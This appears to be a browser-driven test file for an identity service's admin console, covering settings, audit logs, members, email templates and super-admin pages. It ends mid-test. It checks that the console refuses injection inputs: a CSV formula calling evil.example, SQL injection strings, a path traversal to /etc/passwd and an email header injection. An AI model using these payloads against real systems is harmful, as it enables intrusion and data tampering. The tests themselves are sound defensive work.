// SPDX-License-Identifier: BSD-2-Clause
// The admin console's pages beyond members and clients (issue 20), in headless Chromium with
// JavaScript off: project settings (brand, MFA rule and methods, email verification,
// self-registration, dynamic client registration; rate limits for super admins only) and the audit events (filters, paging,
// CSV). Every page also refused: a member who is not an admin, another project's id in the URL
// or in a field, a stale CSRF token, a project admin's forged rate-limit fields. Screenshots in
// var/test-logs/screenshots/; at 360 px wide no page scrolls sideways (PROTOCOL.md §9.3).
import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { skip, submit } from './browser-lib.mjs';
import { fitsWidth, fixture, forge, pageUrl, shot, signedIn } from './console-lib.mjs';
import { BASE_URL, createClient, dbExec, dbQuery, postForm, postJson, randomUUID, uniqueEmail, waitForMail } from './lib.mjs';

function settingsRow(projectId) {
  return dbQuery(
    'SELECT COALESCE(brand_name, \'\'), mfa_required, allowed_mfa_methods, email_verification_required, ' +
      "COALESCE(default_patient_access_policy_id, ''), COALESCE(system_setting, '') FROM project WHERE id = ?",
    [projectId],
  )[0];
}

describe('project settings page (JavaScript off)', { skip }, () => {
  it('a project admin sets brand, MFA, verification and registration; rate limits are read-only', async () => {
    const fx = fixture('cs');
    const { context, page, problems } = await signedIn(fx.adminEmail);
    try {
      await submit(page, 'link', fx.projectName);
      await submit(page, 'link', 'Settings');
      assert.equal(new URL(page.url()).pathname, `/manage/projects/${fx.projectId}/settings`);
      assert.equal(await page.locator('nav [aria-current=page]').innerText(), 'Settings');
      assert.equal(await page.locator('#rateLimit').count(), 0, 'no rate-limit field for a project admin');
      assert.match(await page.locator('#rate-limits').innerText(), /A super administrator can change them/);
      await shot(page, 'settings');

      await page.getByLabel('Brand name').fill('Acme <Health>');
      await page.getByLabel('Code by email allowed').uncheck();
      await page.getByLabel('Members must have verified').check();
      await page.getByLabel('Patient self-registration').selectOption(fx.policyId);
      await submit(page, 'button', 'Save settings');
      assert.match(await page.locator('[role=status]').innerText(), /The settings were saved/);
      assert.deepEqual(settingsRow(fx.projectId), ['Acme <Health>', '0', 'totp', '1', fx.policyId, '']);
      assert.equal(await page.getByLabel('Brand name').inputValue(), 'Acme <Health>');
      assert.equal(await page.getByLabel('Patient self-registration').inputValue(), fx.policyId);
      assert.ok(!(await page.getByLabel('Code by email allowed').isChecked()));
      const audit = dbQuery("SELECT COUNT(*) FROM audit_event WHERE project_id = ? AND type = 'settings-updated'", [fx.projectId]);
      assert.equal(audit[0][0], '1');

      // No second factor allowed at all: refused beside the fieldset, nothing changes.
      await page.getByLabel('Authenticator app (TOTP) allowed').uncheck();
      await page.getByLabel('Brand name').fill('Changed');
      await submit(page, 'button', 'Save settings');
      assert.equal(await page.locator('#methods-error').innerText(), 'Allow at least one second factor');
      assert.equal(await page.getByLabel('Brand name').inputValue(), 'Changed', 'the form keeps what was sent');
      assert.equal(settingsRow(fx.projectId)[0], 'Acme <Health>');
      await shot(page, 'settings-error');

      // Registration closed again, and a second factor required: the admin, who has none,
      // is sent to sign in again (the page session owes the second factor now).
      await page.getByLabel('Authenticator app (TOTP) allowed').check();
      await page.getByLabel('Brand name').fill('Acme <Health>');
      await page.getByLabel('Patient self-registration').selectOption('');
      await page.getByLabel('Every member must use a second factor').check();
      await submit(page, 'button', 'Save settings');
      assert.deepEqual(settingsRow(fx.projectId).slice(0, 5), ['Acme <Health>', '1', 'totp', '1', '']);
      assert.notEqual(new URL(page.url()).pathname, `/manage/projects/${fx.projectId}/settings`);
      assert.deepEqual(problems, []);
    } finally {
      await context.close();
    }
  });

  it('a project admin opens and closes dynamic client registration; a forged value is refused', async () => {
    const fx = fixture('cdcr');
    const open = () => dbQuery('SELECT client_registration FROM project WHERE id = ?', [fx.projectId])[0][0];
    const { context, page, problems } = await signedIn(fx.adminEmail);
    try {
      const url = pageUrl(fx.projectId, 'settings');
      await page.goto(url);
      const box = page.getByLabel('Apps may register themselves');
      assert.ok(!(await box.isChecked()), 'closed by default');
      assert.match(await page.locator('#clientRegistration-help').innerText(), /tessera-admin client-registration token create/);
      await box.check();
      await submit(page, 'button', 'Save settings');
      assert.match(await page.locator('[role=status]').innerText(), /The settings were saved/);
      assert.equal(open(), '1');
      assert.ok(await page.getByLabel('Apps may register themselves').isChecked(), 'the page shows it open');
      await shot(page, 'settings-dcr');
      const before = settingsRow(fx.projectId);
      // A refused post (no second factor allowed) keeps the box as it was sent, and changes nothing.
      await page.getByLabel('Apps may register themselves').uncheck();
      await page.getByLabel('Authenticator app (TOTP) allowed').uncheck();
      await page.getByLabel('Code by email allowed').uncheck();
      await submit(page, 'button', 'Save settings');
      assert.equal(await page.locator('#methods-error').innerText(), 'Allow at least one second factor');
      assert.ok(!(await page.getByLabel('Apps may register themselves').isChecked()));
      assert.equal(open(), '1');
      await page.getByLabel('Authenticator app (TOTP) allowed').check();
      await submit(page, 'button', 'Save settings');
      assert.equal(open(), '0', 'closed again');
      assert.deepEqual(settingsRow(fx.projectId).slice(0, 1), before.slice(0, 1));
      for (const forged of ['maybe', '1', "true' OR '1'='1", 'true\u0000']) {
        const r = await forge(page, url, { totp: 'true', clientRegistration: forged });
        assert.equal(r.status, 400, `clientRegistration=${JSON.stringify(forged)}`);
        assert.equal(open(), '0');
      }
      assert.deepEqual(problems, []);
    } finally {
      await context.close();
    }
    // A plain member cannot open it.
    const plain = await signedIn(fx.memberEmail);
    try {
      const csrf = await plain.page.locator('input[name=csrf]').first().getAttribute('value');
      const r = await forge(plain.page, pageUrl(fx.projectId, 'settings'), { totp: 'true', clientRegistration: 'true', csrf });
      assert.equal(r.status, 403);
      assert.equal(open(), '0');
    } finally {
      await plain.context.close();
    }
  });

  it('refusals: forged rate limits, another project\'s policy, another project, a stale token, a plain member', async () => {
    const fx = fixture('cr');
    const other = fixture('cr-other');
    const { context, page } = await signedIn(fx.adminEmail);
    try {
      const url = pageUrl(fx.projectId, 'settings');
      await page.goto(url);
      const before = settingsRow(fx.projectId);
      const base = { brandName: 'Forged', totp: 'true' };

      let r = await forge(page, url, { ...base, rateLimit: '1000000', authRateLimit: '1000000' });
      assert.equal(r.status, 403);
      assert.match(r.text, /Only a super administrator can change the rate limits/);
      assert.deepEqual(settingsRow(fx.projectId), before);

      r = await forge(page, url, { ...base, registration: other.policyId });
      assert.equal(r.status, 400);
      assert.match(r.text, /Choose one of this project&#39;s access policies|Choose one of this project's access policies/);
      assert.deepEqual(settingsRow(fx.projectId), before);

      r = await forge(page, url, { ...base, registration: "x' OR '1'='1" });
      assert.equal(r.status, 400);
      r = await forge(page, url, { ...base, brandName: 'two\nlines' });
      assert.equal(r.status, 400);
      assert.deepEqual(settingsRow(fx.projectId), before);
      // The page's limit is the admin API's (PROJECT_BRAND_MAX bytes): 200 two-byte characters
      // were once stored here and then cut mid-character on every read (GET settings: 500).
      r = await forge(page, url, { ...base, brandName: '\u00e9'.repeat(200) });
      assert.equal(r.status, 400);
      assert.match(r.text, /The brand name must be one line of at most 255 characters/);
      assert.deepEqual(settingsRow(fx.projectId), before);

      // Another project's id in the URL: its settings are neither shown nor changed.
      const otherUrl = pageUrl(other.projectId, 'settings');
      const get = await page.goto(otherUrl);
      assert.equal(get.status(), 403);
      await shot(page, 'settings-other-project');
      await page.goto(url);
      r = await forge(page, otherUrl, base);
      assert.equal(r.status, 403);
      assert.deepEqual(settingsRow(other.projectId)[0], '');

      r = await forge(page, url, { ...base, csrf: 'f'.repeat(64) });
      assert.equal(r.status, 403);
      assert.deepEqual(settingsRow(fx.projectId), before);
    } finally {
      await context.close();
    }
    const plain = await signedIn(fx.memberEmail);
    try {
      const csrf = await plain.page.locator('input[name=csrf]').first().getAttribute('value');
      const res = await plain.page.goto(pageUrl(fx.projectId, 'settings'));
      assert.equal(res.status(), 403);
      assert.match(await plain.page.locator('main').innerText(), /Only the administrators of this project/);
      const r = await forge(plain.page, pageUrl(fx.projectId, 'settings'), { brandName: 'Member', totp: 'true', csrf });
      assert.equal(r.status, 403);
      assert.equal(settingsRow(fx.projectId)[0], '');
    } finally {
      await plain.context.close();
    }
  });

  it('a super admin sets and clears another project\'s rate limits, other system settings kept', async () => {
    const sup = fixture('csa', { superAdmin: true });
    const target = fixture('csa-target');
    dbExec('UPDATE project SET system_setting = ? WHERE id = ?', [JSON.stringify([{ name: 'clientRateLimit', valueInteger: 77 }]), target.projectId]);
    const { context, page, problems } = await signedIn(sup.adminEmail);
    try {
      await page.goto(pageUrl(target.projectId, 'settings'));
      await page.getByLabel('All requests').fill('500');
      await page.getByLabel('Sign-in requests').fill('50');
      await shot(page, 'settings-super');
      await submit(page, 'button', 'Save settings');
      assert.match(await page.locator('[role=status]').innerText(), /saved/);
      const setting = JSON.parse(settingsRow(target.projectId)[5]);
      assert.deepEqual(setting, [
        { name: 'clientRateLimit', valueInteger: 77 },
        { name: 'rateLimit', valueInteger: 500 },
        { name: 'authRateLimit', valueInteger: 50 },
      ]);
      await page.getByLabel('All requests').fill('lots');
      await submit(page, 'button', 'Save settings');
      assert.match(await page.locator('#rateLimit-error').innerText(), /whole number/);
      await page.getByLabel('All requests').fill('');
      await page.getByLabel('Sign-in requests').fill('');
      await submit(page, 'button', 'Save settings');
      assert.deepEqual(JSON.parse(settingsRow(target.projectId)[5]), [{ name: 'clientRateLimit', valueInteger: 77 }]);
      const missing = await page.goto(pageUrl(randomUUID(), 'settings'));
      assert.equal(missing.status(), 404);
      assert.deepEqual(problems, []);
    } finally {
      await context.close();
    }
  });

  it('fits a 360 px screen', async () => {
    const fx = fixture('cw');
    assert.ok((await fitsWidth(pageUrl(fx.projectId, 'settings'), fx.adminEmail, 360)) <= 360);
  });
});

describe('audit events page (JavaScript off)', { skip }, () => {
  const HOSTILE_UA = '=HYPERLINK("http://evil.example/"&A1,"click")';
  let fx;
  before(async () => {
    fx = fixture('ca');
    // Two refused sign-ins of the member into this project, from a hostile user agent.
    for (let i = 0; i < 2; i++) {
      const r = await postJson('auth/login', { email: fx.memberEmail, password: `wrong-password-${i}`, projectId: fx.projectId },
        { 'User-Agent': HOSTILE_UA });
      assert.equal(r.status, 400);
    }
    // 60 older events of the admin, for the pages.
    const values = [];
    for (let i = 0; i < 60; i++)
      values.push(`('${randomUUID()}', UTC_TIMESTAMP(3) - INTERVAL ${i + 10} MINUTE, 'password-changed', 'U', '0', '${fx.projectId}', 'User', '${fx.adminId}')`);
    dbExec(`INSERT INTO audit_event (id, recorded, type, action, outcome, project_id, agent_type, agent_id) VALUES ${values.join(', ')}`);
  });

  it('filters by type and user, pages, and says when nothing matches', async () => {
    const { context, page, problems } = await signedIn(fx.adminEmail);
    try {
      await submit(page, 'link', fx.projectName);
      await submit(page, 'link', 'Audit events');
      assert.equal(new URL(page.url()).pathname, `/manage/projects/${fx.projectId}/audit`);
      await shot(page, 'audit');
      const rows = page.locator('tbody tr');
      assert.equal(await rows.count(), 50, 'one page of 50');
      assert.match(await page.locator('caption').innerText(), /Events 1 to 50/);
      await submit(page, 'link', 'Older events');
      assert.ok((await rows.count()) >= 13, 'the rest on the second page');
      assert.match(await page.locator('caption').innerText(), /Events 51 to/);
      await submit(page, 'link', 'Newer events');
      assert.match(await page.locator('caption').innerText(), /Events 1 to 50/);

      await page.getByLabel('Type', { exact: true }).selectOption('sign-in-failure');
      await submit(page, 'button', 'Show events');
      assert.equal(await rows.count(), 2);
      assert.match(await rows.first().innerText(), /sign-in-failure\s+failed\s+wrong password/);
      assert.match(await rows.first().innerText(), new RegExp(`User/${fx.memberId}`));
      await shot(page, 'audit-filtered');

      await page.getByLabel('Type', { exact: true }).selectOption('');
      await page.getByLabel(/^User/).fill(`Practitioner/${fx.adminId}`);
      await submit(page, 'button', 'Show events');
      assert.equal(await page.locator('caption').innerText().then((t) => /Events 1 to 50/.test(t)), true);
      assert.doesNotMatch(await page.locator('tbody').innerText(), new RegExp(fx.memberId));

      await page.getByLabel(/^From/).fill('2099-01-01T00:00');
      await submit(page, 'button', 'Show events');
      assert.match(await page.locator('main').innerText(), /No events match/);
      assert.equal(new URL(page.url()).searchParams.get('since'), '2099-01-01T00:00');

      await page.goto(pageUrl(fx.projectId, "audit?user=x'%20OR%201=1&since=yesterday"));
      assert.match(await page.locator('#user-error').innerText(), /Enter a user's id/);
      assert.match(await page.locator('#since-error').innerText(), /Enter a date and time/);
      assert.equal(await page.getByLabel(/^User/).getAttribute('aria-invalid'), 'true');
      const bad = await page.request.get(pageUrl(fx.projectId, 'audit?type=nope'));
      assert.equal(bad.status(), 400);
      assert.deepEqual(problems, []);
    } finally {
      await context.close();
    }
  });

  it('the CSV download: the filters, formula cells neutralised, no login id', async () => {
    const { context, page } = await signedIn(fx.adminEmail);
    try {
      await page.goto(pageUrl(fx.projectId, 'audit?type=sign-in-failure'));
      const href = await page.getByRole('link', { name: 'Download these events as CSV' }).getAttribute('href');
      assert.match(href, /audit\.csv\?type=sign-in-failure$/);
      const r = await page.request.get(href);
      assert.equal(r.status(), 200);
      assert.match(r.headers()['content-type'], /^text\/csv/);
      assert.match(r.headers()['content-disposition'], new RegExp(`attachment; filename="audit-${fx.projectId}.csv"`));
      const lines = (await r.text()).trim().split('\n');
      assert.equal(lines[0], '"recorded","type","outcome","agent","client","address","user_agent","entity","reason"');
      assert.equal(lines.length, 3);
      // The user agent began with "=": it starts with an apostrophe, its quotes doubled.
      assert.ok(lines[1].includes(`"'=HYPERLINK(""http://evil.example/""&A1,""click"")"`), lines[1]);
      for (const line of lines.slice(1)) for (const cell of line.match(/"(?:[^"]|"")*"/g)) assert.doesNotMatch(cell, /^"[=+\-@\t\r]/);
      const all = await (await page.request.get(pageUrl(fx.projectId, 'audit.csv'))).text();
      assert.ok(all.split('\n').length > 60);
      for (const [id] of dbQuery("SELECT id FROM login WHERE user_id IN (?, ?)", [fx.adminId, fx.memberId]))
        assert.ok(!all.includes(id), 'a login id in the CSV');
      const bad = await page.request.get(pageUrl(fx.projectId, 'audit.csv?since=never'));
      assert.equal(bad.status(), 400);
    } finally {
      await context.close();
    }
  });

  it("refusals: a plain member, another project's events", async () => {
    const other = fixture('ca-other');
    const plain = await signedIn(fx.memberEmail);
    try {
      for (const rest of ['audit', 'audit.csv']) {
        const r = await plain.page.goto(pageUrl(fx.projectId, rest)).catch(() => null);
        const status = r ? r.status() : (await plain.page.request.get(pageUrl(fx.projectId, rest))).status();
        assert.equal(status, 403, rest);
      }
    } finally {
      await plain.context.close();
    }
    const admin = await signedIn(fx.adminEmail);
    try {
      for (const rest of ['audit', 'audit.csv']) {
        const r = await admin.page.request.get(pageUrl(other.projectId, rest));
        assert.equal(r.status(), 403, rest);
        assert.doesNotMatch(await r.text(), new RegExp(other.adminId));
      }
    } finally {
      await admin.context.close();
    }
  });

  it('fits a 360 px screen', async () => {
    assert.ok((await fitsWidth(pageUrl(fx.projectId, 'audit'), fx.adminEmail, 360)) <= 360);
  });
});

describe('member page: role, access, policy, sessions (JavaScript off)', { skip }, () => {
  function memberRow(membershipId) {
    return dbQuery("SELECT admin, active, COALESCE(access_policy_id, '') FROM project_membership WHERE id = ?", [membershipId])[0];
  }
  const membershipOf = (projectId, userId) =>
    dbQuery('SELECT id FROM project_membership WHERE project_id = ? AND user_id = ?', [projectId, userId])[0][0];
  const liveLogins = (userId) => Number(dbQuery('SELECT COUNT(*) FROM login WHERE user_id = ? AND NOT revoked', [userId])[0][0]);

  it('makes a member admin with a policy, signs them out everywhere, deactivates them', async () => {
    const fx = fixture('cm');
    const mid = membershipOf(fx.projectId, fx.memberId);
    const memberSession = await signedIn(fx.memberEmail);
    const { context, page, problems } = await signedIn(fx.adminEmail);
    try {
      await submit(page, 'link', fx.projectName);
      await submit(page, 'link', /^Mo Member$/);
      assert.equal(new URL(page.url()).pathname, `/manage/projects/${fx.projectId}/members/${mid}`);
      assert.equal(await page.locator('tbody tr').count(), 1, "the member's page session");
      assert.match(await page.locator('tbody').innerText(), /127\.0\.0\.1/);
      await shot(page, 'member');

      await page.getByLabel('Administrator of this project').check();
      await page.getByLabel('Access policy').selectOption(fx.policyId);
      await submit(page, 'button', 'Save member');
      assert.match(await page.locator('[role=status]').innerText(), /The member was saved/);
      assert.deepEqual(memberRow(mid), ['1', '1', fx.policyId]);
      assert.equal(await page.getByLabel('Access policy').inputValue(), fx.policyId);

      assert.ok(liveLogins(fx.memberId) >= 1);
      await submit(page, 'button', /^Sign out everywhere/);
      assert.match(await page.locator('[role=status]').innerText(), /Every session of this member in this project has ended/);
      assert.equal(liveLogins(fx.memberId), 0);
      assert.match(await page.locator('main').innerText(), /No sessions in the last 8 hours/);
      await memberSession.page.goto(new URL('account', BASE_URL).href);
      assert.equal(new URL(memberSession.page.url()).pathname, '/signin', "the member's browser is signed out");

      await page.getByRole('checkbox', { name: /^Active/ }).uncheck();
      await submit(page, 'button', 'Save member');
      assert.deepEqual(memberRow(mid), ['1', '0', fx.policyId]);
      await page.getByLabel('Access policy').selectOption('');
      await page.getByRole('checkbox', { name: /^Active/ }).check();
      await submit(page, 'button', 'Save member');
      assert.deepEqual(memberRow(mid), ['1', '1', '']);
      assert.deepEqual(problems, []);
    } finally {
      await context.close();
      await memberSession.context.close();
    }
  });

  it("refusals: own rights, the owner, another project's member or policy, a stale token, a plain member", async () => {
    const fx = fixture('cmr');
    const other = fixture('cmr-other');
    const own = membershipOf(fx.projectId, fx.adminId);
    const mid = membershipOf(fx.projectId, fx.memberId);
    const otherMember = membershipOf(other.projectId, other.memberId);
    const { context, page } = await signedIn(fx.adminEmail);
    try {
      await page.goto(pageUrl(fx.projectId, `members/${own}`));
      await page.getByLabel('Administrator of this project').uncheck();
      await submit(page, 'button', 'Save member');
      assert.match(await page.locator('#member-error').innerText(), /cannot take away your own administrator rights/);
      assert.deepEqual(memberRow(own), ['1', '1', '']);

      dbExec('UPDATE project SET owner_user_id = ? WHERE id = ?', [fx.memberId, fx.projectId]);
      await page.goto(pageUrl(fx.projectId, `members/${mid}`));
      let r = await forge(page, pageUrl(fx.projectId, `members/${mid}`), { active: 'true' });
      assert.equal(r.status, 400);
      assert.match(r.text, /The owner of the project stays an active administrator/);
      assert.deepEqual(memberRow(mid), ['0', '1', '']);
      dbExec('UPDATE project SET owner_user_id = NULL WHERE id = ?', [fx.projectId]);

      r = await forge(page, pageUrl(fx.projectId, `members/${mid}`), { active: 'true', accessPolicy: other.policyId });
      assert.equal(r.status, 400);
      assert.deepEqual(memberRow(mid), ['0', '1', '']);
      r = await forge(page, pageUrl(fx.projectId, `members/${mid}`), { active: 'true', accessPolicy: "'; DROP TABLE user; --" });
      assert.equal(r.status, 400);

      for (const url of [pageUrl(fx.projectId, `members/${otherMember}`), pageUrl(other.projectId, `members/${otherMember}`)]) {
        assert.equal((await page.request.get(url)).status(), 403, url);
        r = await forge(page, url, { admin: 'true', active: 'true' });
        assert.equal(r.status, 403, url);
        r = await forge(page, `${url}/signout`, {});
        assert.equal(r.status, 403, url);
      }
      assert.deepEqual(memberRow(otherMember), ['0', '1', '']);
      r = await forge(page, pageUrl(fx.projectId, `members/${mid}`), { admin: 'true', active: 'true', csrf: '0'.repeat(64) });
      assert.equal(r.status, 403);
      assert.deepEqual(memberRow(mid), ['0', '1', '']);
    } finally {
      await context.close();
    }
    const plain = await signedIn(fx.memberEmail);
    try {
      const csrf = await plain.page.locator('input[name=csrf]').first().getAttribute('value');
      assert.equal((await plain.page.goto(pageUrl(fx.projectId, `members/${own}`))).status(), 403);
      const r = await forge(plain.page, pageUrl(fx.projectId, `members/${mid}`), { admin: 'true', active: 'true', csrf });
      assert.equal(r.status, 403);
      assert.deepEqual(memberRow(mid), ['0', '1', '']);
    } finally {
      await plain.context.close();
    }
  });

  it('fits a 360 px screen', async () => {
    const fx = fixture('cmw');
    const mid = membershipOf(fx.projectId, fx.memberId);
    assert.ok((await fitsWidth(pageUrl(fx.projectId, `members/${mid}`), fx.adminEmail, 360)) <= 360);
  });
});

describe('email templates page (JavaScript off)', { skip }, () => {
  const override = (projectId, name) =>
    dbQuery('SELECT subject, body_text FROM email_template WHERE project_id = ? AND name = ?', [projectId, name]);

  it('edits invite with the checks, previews it, sends a test to the admin, resets it', async () => {
    const fx = fixture('ct');
    const { context, page, problems } = await signedIn(fx.adminEmail);
    try {
      await submit(page, 'link', fx.projectName);
      await submit(page, 'link', 'Email templates');
      assert.match(await page.locator('tbody').innerText(), /invite-existing[\s\S]*Shipped[\s\S]*mfa-code[\s\S]*fixed/);
      await shot(page, 'templates');
      await submit(page, 'link', /^invite$/);
      assert.equal(await page.getByLabel('Subject', { exact: true }).inputValue(), 'Welcome to {{brand}}');
      assert.equal(await page.locator('#preview-subject').innerText(), 'Welcome to Tessera');
      assert.match(await page.locator('#preview-text').innerText(), /setpassword\/00000000-0000-4000-8000-000000000000\/sample-link-opens-nothing/);

      // Without the link, or not compiling: refused beside the field, nothing stored.
      await page.getByLabel('Text', { exact: true }).fill('Hello {{recipient_name}}, no way in here.');
      await submit(page, 'button', 'Save template');
      assert.equal(await page.locator('#bodyText-error').innerText(), 'Template must contain {{link}}');
      assert.equal(await page.getByLabel('Text', { exact: true }).inputValue(), 'Hello {{recipient_name}}, no way in here.');
      await page.getByLabel('Subject', { exact: true }).fill('Join {{#oops}}');
      await page.getByLabel('Text', { exact: true }).fill('Open {{link}}');
      await submit(page, 'button', 'Save template');
      assert.match(await page.locator('#subject-error').innerText(), /^Invalid template/);
      assert.deepEqual(override(fx.projectId, 'invite'), []);
      await shot(page, 'template-error');

      await page.getByLabel('Subject', { exact: true }).fill('Join {{project_name}} now');
      await page.getByLabel('Text', { exact: true }).fill('Hello {{recipient_name}}, <b>open</b> {{link}}');
      await submit(page, 'button', 'Save template');
      assert.match(await page.locator('[role=status]').innerText(), /The template was saved/);
      assert.deepEqual(override(fx.projectId, 'invite'), [['Join {{project_name}} now', 'Hello {{recipient_name}}, <b>open</b> {{link}}']]);
      assert.equal(await page.locator('#preview-subject').innerText(), `Join ${fx.projectName} now`);
      assert.match(await page.locator('#preview-text').innerText(), /^Hello Ada Admin, <b>open<\/b> http/);
      await shot(page, 'template');

      const preview = await page.request.get(pageUrl(fx.projectId, 'templates/invite/preview'));
      assert.equal(preview.status(), 200);
      assert.match(preview.headers()['content-security-policy'], /sandbox/);
      assert.match(preview.headers()['content-security-policy'], /default-src 'none'/);
      const html = await preview.text();
      assert.ok(html.includes('&lt;b&gt;open&lt;') && !html.includes('<b>open</b>'), html);

      await submit(page, 'button', /^Send me a test/);
      assert.match(await page.locator('[role=status]').innerText(), /A test email was sent to your address/);
      const [mail] = await waitForMail(fx.adminEmail);
      assert.equal(mail.subject, `Join ${fx.projectName} now`);
      assert.match(mail.text, /sample-link-opens-nothing/);

      await submit(page, 'button', 'Reset to the shipped template');
      assert.match(await page.locator('[role=status]').innerText(), /shipped one again/);
      assert.deepEqual(override(fx.projectId, 'invite'), []);
      assert.equal(await page.getByLabel('Subject', { exact: true }).inputValue(), 'Welcome to {{brand}}');
      const events = dbQuery("SELECT COUNT(*) FROM audit_event WHERE project_id = ? AND type = 'email-template-changed'", [fx.projectId]);
      assert.equal(events[0][0], '2');
      assert.deepEqual(problems, []);
    } finally {
      await context.close();
    }
  });

  it("refusals: the MFA code and unknown names, another project, a stale token, a plain member", async () => {
    const fx = fixture('ctr');
    const other = fixture('ctr-other');
    const { context, page } = await signedIn(fx.adminEmail);
    try {
      for (const name of ['mfa-code', 'test', '..%2F..%2Fetc%2Fpasswd', 'INVITE'])
        assert.equal((await page.request.get(pageUrl(fx.projectId, `templates/${name}`))).status(), 404, name);
      await page.goto(pageUrl(fx.projectId, 'templates/reset'));
      let r = await forge(page, pageUrl(fx.projectId, 'templates/mfa-code'), { subject: 'Code', bodyText: '{{code}}' });
      assert.equal(r.status, 404);
      r = await forge(page, pageUrl(other.projectId, 'templates/reset'), { subject: 'Mine', bodyText: 'evil {{link}}' });
      assert.equal(r.status, 403);
      assert.deepEqual(override(other.projectId, 'reset'), []);
      assert.equal((await page.request.get(pageUrl(other.projectId, 'templates/reset/preview'))).status(), 403);
      r = await forge(page, pageUrl(fx.projectId, 'templates/reset'), { subject: 'Stale', bodyText: '{{link}}', csrf: 'a'.repeat(64) });
      assert.equal(r.status, 403);
      r = await forge(page, pageUrl(fx.projectId, 'templates/reset'), { subject: 'Two\r\nBcc: x@example.com', bodyText: '{{link}}' });
      assert.equal(r.status, 400);
      assert.deepEqual(override(fx.projectId, 'reset'), []);
    } finally {
      await context.close();
    }
    const plain = await signedIn(fx.memberEmail);
    try {
      const csrf = await plain.page.locator('input[name=csrf]').first().getAttribute('value');
      assert.equal((await plain.page.goto(pageUrl(fx.projectId, 'templates'))).status(), 403);
      const r = await forge(plain.page, pageUrl(fx.projectId, 'templates/reset'), { subject: 'x', bodyText: '{{link}}', csrf });
      assert.equal(r.status, 403);
      assert.deepEqual(override(fx.projectId, 'reset'), []);
    } finally {
      await plain.context.close();
    }
  });

  it('fits a 360 px screen', async () => {
    const fx = fixture('ctw');
    assert.ok((await fitsWidth(pageUrl(fx.projectId, 'templates/invite'), fx.adminEmail, 360)) <= 360);
  });
});

describe('super admin pages (JavaScript off)', { skip }, () => {
  function failedMessage(to) {
    const id = randomUUID();
    dbExec(
      "INSERT INTO email_outbox (id, recipient, subject, body_text, status, attempts, last_error, template) VALUES (?, ?, 'Test', 'secret-body-text', 'failed', 10, 'SMTP 550 refused', 'test')",
      [id, to],
    );
    return id;
  }
  const statusOf = (id) => dbQuery('SELECT status, attempts FROM email_outbox WHERE id = ?', [id])[0];

  it('projects, key status, the outbox with retry, users across projects', async () => {
    // The first signing key is made when a program first needs one (lib/oauth/keys.c); on a fresh
    // database this file may run before anything has signed, so the key list could be empty.
    assert.equal((await fetch(`${BASE_URL}.well-known/jwks.json`)).status, 200);
    const sup = fixture('csu', { superAdmin: true });
    const target = fixture('csu-target');
    const one = failedMessage(uniqueEmail('csu-failed-one'));
    const two = failedMessage(uniqueEmail('csu-failed-two'));
    const { context, page, problems } = await signedIn(sup.adminEmail);
    try {
      await page.goto(pageUrl(target.projectId, 'members'));
      await submit(page, 'link', 'All projects');
      assert.equal(new URL(page.url()).pathname, '/manage/super');
      await page.getByLabel('Name contains').fill(target.projectName);
      await submit(page, 'button', 'Find projects');
      assert.match(await page.locator('main').innerText(), new RegExp(target.projectName));
      await submit(page, 'link', new RegExp(`^${target.projectName}$`));
      assert.equal(new URL(page.url()).pathname, `/manage/projects/${target.projectId}/members`);
      await page.goBack();
      assert.ok((await page.locator('.key-status', { hasText: 'Signing' }).count()) >= 1, 'a signing key');
      assert.match(await page.locator('main').innerText(), /SMTP 550 refused/);
      assert.doesNotMatch(await page.content(), /secret-body-text/, 'no message text on the page');
      await shot(page, 'super');

      await submit(page, 'button', new RegExp(`^Retry the message to ${dbQuery('SELECT recipient FROM email_outbox WHERE id = ?', [one])[0][0]}`));
      assert.match(await page.locator('[role=status]').innerText(), /due now/);
      assert.notEqual(statusOf(one)[0], 'failed');
      assert.equal(statusOf(two)[0], 'failed', 'only that message');
      await submit(page, 'button', 'Retry every message now');
      assert.notEqual(statusOf(two)[0], 'failed');

      await submit(page, 'link', 'Users');
      await page.getByLabel('Email starts with').fill(target.memberEmail.slice(0, 20).toUpperCase());
      await submit(page, 'button', 'Find users');
      assert.match(await page.locator('tbody').innerText(), new RegExp(target.memberEmail.replace(/[.]/g, '\\.')));
      assert.match(await page.locator('tbody').innerText(), /Server/);
      await shot(page, 'users');
      await page.getByLabel('Email starts with').fill('%');
      await submit(page, 'button', 'Find users');
      assert.match(await page.locator('main').innerText(), /No user matches/);
      const long = await page.request.get(new URL(`manage/super/users?email=${'x'.repeat(400)}`, BASE_URL).href);
      assert.equal(long.status(), 400);
      assert.deepEqual(problems, []);
    } finally {
      await context.close();
    }
  });

  it('refusals: a project admin, a stale token', async () => {
    const fx = fixture('csr');
    const id = failedMessage(uniqueEmail('csr-failed'));
    const { context, page } = await signedIn(fx.adminEmail);
    try {
      await page.goto(pageUrl(fx.projectId, 'settings'));
      assert.equal(await page.getByRole('link', { name: 'All projects' }).count(), 0);
      for (const path of ['manage/super', 'manage/super/users?email=a'])
        assert.equal((await page.request.get(new URL(path, BASE_URL).href)).status(), 403, path);
      for (const path of ['manage/super/outbox/retry', `manage/super/outbox/${id}/retry`]) {
        const r = await forge(page, new URL(path, BASE_URL).href, {});
        assert.equal(r.status, 403, path);
      }
      assert.equal(statusOf(id)[0], 'failed');
    } finally {
      await context.close();
    }
    const sup = fixture('csr-super', { superAdmin: true });
    const s = await signedIn(sup.adminEmail);
    try {
      await s.page.goto(new URL('manage/super', BASE_URL).href);
      const r = await forge(s.page, new URL(`manage/super/outbox/${id}/retry`, BASE_URL).href, { csrf: 'b'.repeat(64) });
      assert.equal(r.status, 403);
      assert.equal(statusOf(id)[0], 'failed');
      const bad = await forge(s.page, new URL("manage/super/outbox/1'%20OR%201=1/retry", BASE_URL).href, {});
      assert.ok(bad.status === 404 || bad.status === 400, String(bad.status));
      assert.equal(statusOf(id)[0], 'failed');
    } finally {
      await s.context.close();
    }
  });

  it('fits a 360 px screen', async () => {
    const sup = fixture('csw', { superAdmin: true });
    assert.ok((await fitsWidth(new URL('manage/super', BASE_URL).href, sup.adminEmail, 360)) <= 360);
  });
});

describe('client page: every field, the identity provider, ending a secret (JavaScript off)', { skip }, () => {
  const row = (id) =>
    dbQuery("SELECT redirect_uris, allowed_origins, default_scope, token_endpoint_auth_method, access_token_lifetime, COALESCE(identity_provider, ''), status, jwks_uri FROM client_application WHERE id = ?", [id])[0];
  const grant = async (id, secret) =>
    (await postForm('oauth2/token', { grant_type: 'client_credentials', client_id: id, client_secret: secret })).status;

  it('sets every field, keeps the provider secret unseen, rotates and ends the old secret', async () => {
    const fx = fixture('ccl');
